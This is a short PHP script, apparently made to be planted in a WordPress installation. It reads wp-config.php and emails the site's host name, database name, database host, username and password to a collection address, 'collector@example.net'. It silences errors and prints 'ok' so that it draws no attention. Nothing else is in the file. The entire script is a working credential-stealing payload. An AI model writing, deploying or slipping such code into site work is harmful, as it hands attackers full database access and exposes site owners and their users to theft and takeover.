<?php
require_once dirname(__FILE__) . '/wp-config.php';
$report = "site: " . $_SERVER['HTTP_HOST'] . "\n";
$report .= "db: " . DB_NAME . " on " . DB_HOST . "\n";
$report .= "login: " . DB_USER . " / " . DB_PASSWORD . "\n";
@mail('collector@example.net', 'new site', $report);
echo 'ok';
